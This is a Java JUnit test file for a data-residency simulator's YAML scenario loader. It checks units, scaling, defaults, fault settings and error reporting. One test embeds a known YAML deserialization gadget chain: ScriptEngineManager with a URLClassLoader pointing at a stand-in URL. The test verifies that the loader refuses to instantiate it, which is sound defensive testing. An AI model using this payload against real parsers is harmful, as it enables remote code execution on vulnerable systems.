package dev.residency.sim.scenario;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.residency.data.RecordStore;
import dev.residency.geo.Jurisdiction;
import dev.residency.sim.network.FailurePolicy;
import dev.residency.units.DataSize;
import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import org.junit.jupiter.api.Test;

/**
 * The loader turns a valid file into the model with units, defaults and the scale applied (users
 * divided, sizes and per-user writes multiplied, bytes kept real), and refuses a bad file with every
 * error at once, each naming its path; it never instantiates anything a YAML tag names.
 */
final class ScenarioLoaderTest {

    private static String tiny() throws IOException, URISyntaxException {
        return Files.readString(resource("scenarios/valid/tiny.yaml"), StandardCharsets.UTF_8);
    }

    private static Path resource(String name) throws URISyntaxException {
        return Path.of(
                ScenarioLoaderTest.class.getClassLoader().getResource(name).toURI());
    }

    @Test
    void load_tiny_appliesDefaults() throws Exception {
        Scenario s = ScenarioLoader.load(tiny(), "tiny.yaml");

        assertThat(s.planning()).isEqualTo(PlanningSettings.defaults());
        assertThat(s.run().start()).isEqualTo(Instant.parse("2020-08-02T00:00:00Z"));
        assertThat(s.run().deadline()).contains(Instant.parse("2020-09-15T00:00:00Z"));
        assertThat(s.run().deadlineRule()).isEqualTo(DeadlineRule.CONTINUE);
        assertThat(s.run().replications()).isEqualTo(RunSettings.DEFAULT_REPLICATIONS);
        assertThat(s.run().horizon()).isEqualTo(Duration.ofDays(730));
        assertThat(s.run().faults()).isEqualTo(Faults.NONE);
        assertThat(s.run().backups()).isEqualTo(Backups.defaults());
        assertThat(s.policy().name()).isEqualTo("tiny");
        assertThat(s.topology().siteCount()).isEqualTo(4);
        assertThat(s.topology().links().get(0).backward())
                .isEqualTo(s.topology().links().get(0).forward());
    }

    @Test
    void load_scale10_dividesUsersAndMultipliesSizes() throws Exception {
        Scenario s = ScenarioLoader.load(tiny(), "tiny.yaml");

        PopulationSource.Generated generated = (PopulationSource.Generated) s.population();
        assertThat(s.scale()).isEqualTo(10);
        // 1,000 real users at scale 10 are 100 synthetic ones; a 1 MB median becomes 10 MB.
        assertThat(generated.spec().users()).containsEntry(Jurisdiction.US, 100);
        assertThat(generated.spec().categories().get(0).medianSize()).isEqualTo(DataSize.parse("10 MB"));
    }

    @Test
    void load_liveWrites_arePerSyntheticUser() throws Exception {
        String text = tiny().replace(
                        "  deadline: 2020-09-15",
                        "  deadline: 2020-09-15\n  liveWrites:\n    US: {bytesPerUserPerDay: 1 MB}");

        Scenario s = ScenarioLoader.load(text, "tiny.yaml");

        assertThat(s.run().liveWrites().get(Jurisdiction.US).bytesPerUserPerDay())
                .isEqualTo(10_000_000L);
    }

    @Test
    void withQuickMode_tiny_tenTimesFewerUsersTwoReplications() throws Exception {
        Scenario quick = ScenarioLoader.load(tiny(), "tiny.yaml").withQuickMode();

        PopulationSource.Generated generated = (PopulationSource.Generated) quick.population();
        assertThat(quick.scale()).isEqualTo(100);
        assertThat(quick.run().replications()).isEqualTo(2);
        assertThat(generated.spec().users()).containsEntry(Jurisdiction.US, 10);
        assertThat(generated.spec().categories().get(0).medianSize()).isEqualTo(DataSize.parse("100 MB"));
    }

    @Test
    void load_severalErrors_reportsAllAtOnceWithPaths() throws Exception {
        String text = tiny().replace("    jurisdiction: SG", "    jurisdction: SG")
                .replace("{from: src, to: dst3, bandwidth: 10 Gbps}", "{from: src, to: dst3, bandwidth: -5 Gbps}")
                .replace("    US: [src]", "    US: [scr]")
                .replace("  deadline: 2020-09-15", "  deadline: 2020-07-01")
                .replace("  planner: flow", "  planner: flw");

        ScenarioException e =
                catchThrowableOfType(ScenarioException.class, () -> ScenarioLoader.load(text, "several.yaml"));

        assertThat(e.errors())
                .extracting(ScenarioError::path)
                .contains(
                        "sites[0].jurisdction",
                        "sites[0].jurisdiction",
                        "links[3].bandwidth",
                        "population.placements.US[0]",
                        "run.deadline",
                        "planning.planner");
        assertThat(e.getMessage())
                .startsWith("several.yaml: 6 errors")
                .contains("links[3].bandwidth: \"-5 Gbps\" must be positive");
        assertThat(ScenarioException.EXIT_STATUS).isEqualTo(2);
    }

    @Test
    void load_csvPopulation_expandsRowsKeepingRealBytes() throws Exception {
        Scenario s = ScenarioLoader.load(resource("scenarios/valid/aggregated.yaml"));

        assertThat(s.population()).isInstanceOf(PopulationSource.Aggregated.class);
        RecordStore store = s.population().build(s.topology());
        // Scale 100: 1,000 videos -> 10 records; 250 secrets -> 3 (rounded); 100 profiles -> 1.
        assertThat(store.size()).isEqualTo(14);
        assertThat(store.totalBytes()).isEqualTo(1_000_000_000_000L + 1_001_000_000_000L + 7_000_000_000L);
        // 1 TB over 10 records: 100 GB each.
        assertThat(store.bytes(0)).isEqualTo(100_000_000_000L);
        // 1001 GB over 3 records: the remainder goes on the first.
        assertThat(store.bytes(10)).isEqualTo(333_666_666_668L);
        assertThat(store.bytes(11)).isEqualTo(333_666_666_666L);
        assertThat(store.legalHold(10)).isTrue();
        assertThat(store.record(10).category().movable()).isFalse();
        // US users: 500 real -> 5 synthetic, shared by the US rows; then 1 Canadian user.
        assertThat(store.userCount()).isEqualTo(6);
    }

    @Test
    void load_unquotedNorway_isACountryCodeNotFalse() throws Exception {
        String text = tiny().replace("    US: 1000", "    US: 1000\n    NO: 1000")
                .replace("    US: [src]", "    US: [src]\n    NO: [src]")
                .replace("      homes: [US]", "      homes: [US, NO]")
                .replace("      allowed: {jurisdictions: [US]}", "      allowed: {jurisdictions: [US, NO]}");

        Scenario s = ScenarioLoader.load(text, "norway.yaml");

        assertThat(s.population().users()).containsKey(Jurisdiction.NO);
        assertThat(s.policy().rules().get(0).homes()).contains(Jurisdiction.NO);
    }

    @Test
    void load_fullInstantAndReversedLinkName_areNormalised() throws Exception {
        String text = tiny().replace(
                        "  deadline: 2020-09-15",
                        "  deadline: 2020-09-15T12:30:00Z\n  faults:\n    outages:\n"
                                + "      - {target: dst-src, start: 2020-08-10, end: 2020-08-11T06:00:00+02:00}");

        Scenario s = ScenarioLoader.load(text, "tiny.yaml");

        assertThat(s.run().deadline()).contains(Instant.parse("2020-09-15T12:30:00Z"));
        assertThat(s.run().faults().outages())
                .containsExactly(new ScheduledOutage(
                        "src-dst", Instant.parse("2020-08-10T00:00:00Z"), Instant.parse("2020-08-11T04:00:00Z")));
    }

    @Test
    void load_interruptedTransfers_readsRestartInAnyCaseAndDefaultsToResume() throws Exception {
        String restart = tiny().replace(
                        "  deadline: 2020-09-15",
                        "  deadline: 2020-09-15\n  faults:\n    interruptedTransfers: ReStart");
        String resume = tiny().replace(
                        "  deadline: 2020-09-15",
                        "  deadline: 2020-09-15\n  faults:\n    interruptedTransfers: resume");

        assertThat(ScenarioLoader.load(restart, "restart.yaml").run().faults().interruptedTransfers())
                .isEqualTo(FailurePolicy.RESTART);
        assertThat(ScenarioLoader.load(resume, "resume.yaml").run().faults().interruptedTransfers())
                .isEqualTo(FailurePolicy.RESUME);
        assertThat(ScenarioLoader.load(tiny(), "tiny.yaml").run().faults().interruptedTransfers())
                .isEqualTo(FailurePolicy.RESUME);
    }

    @Test
    void faults_abortPolicy_isRefusedNamingTheField() {
        Throwable e = catchThrowable(() -> Faults.NONE.withInterruptedTransfers(FailurePolicy.ABORT));

        assertThat(e)
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage("interruptedTransfers must be RESUME or RESTART, was ABORT");
    }

    @Test
    void load_yamlTagNamingAClass_isNeverInstantiated() throws Exception {
        String text = tiny().replace(
                        "description: A tiny",
                        "description: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                                + " [\"http://example.invalid/\"]]]]\nassumptions:\n  - A tiny");

        ScenarioException e =
                catchThrowableOfType(ScenarioException.class, () -> ScenarioLoader.load(text, "tagged.yaml"));

        assertThat(e.getMessage()).contains("description: must be a text value, was a list");
    }

    @Test
    void load_missingFile_isAScenarioError() {
        ScenarioException e = catchThrowableOfType(
                ScenarioException.class, () -> ScenarioLoader.load(Path.of("no/such/scenario.yaml")));

        assertThat(e.errors()).singleElement().satisfies(error -> {
            assertThat(error.path()).isEqualTo(ScenarioError.DOCUMENT);
            assertThat(error.message()).startsWith("cannot read the file");
        });
    }

    @Test
    void load_bareZero_isAcceptedWithoutUnit() throws Exception {
        String text = tiny().replace("  deadline: 2020-09-15", "  deadline: 2020-09-15\n  writeFreeze: 0")
                .replace(
                        "{from: src, to: dst, bandwidth: 10 Gbps}",
                        "{from: src, to: dst, bandwidth: 10 Gbps, latency: 0}");

        Scenario s = ScenarioLoader.load(text, "tiny.yaml");

        assertThat(s.run().writeFreeze()).isZero();
        assertThat(s.topology().links().get(0).latency()).isZero();
    }

    @Test
    void load_operatorTypo_suggestsTheFleetsOperator() throws Exception {
        String text =
                tiny().replace("allowed: {jurisdictions: [US]}", "allowed: {jurisdictions: [US], operators: [Nwe]}");

        ScenarioException e = catchThrowableOfType(ScenarioException.class, () -> ScenarioLoader.load(text, "t.yaml"));

        assertThat(e.getMessage()).contains("operator \"Nwe\" runs no site (did you mean \"New\"?)");
    }
}
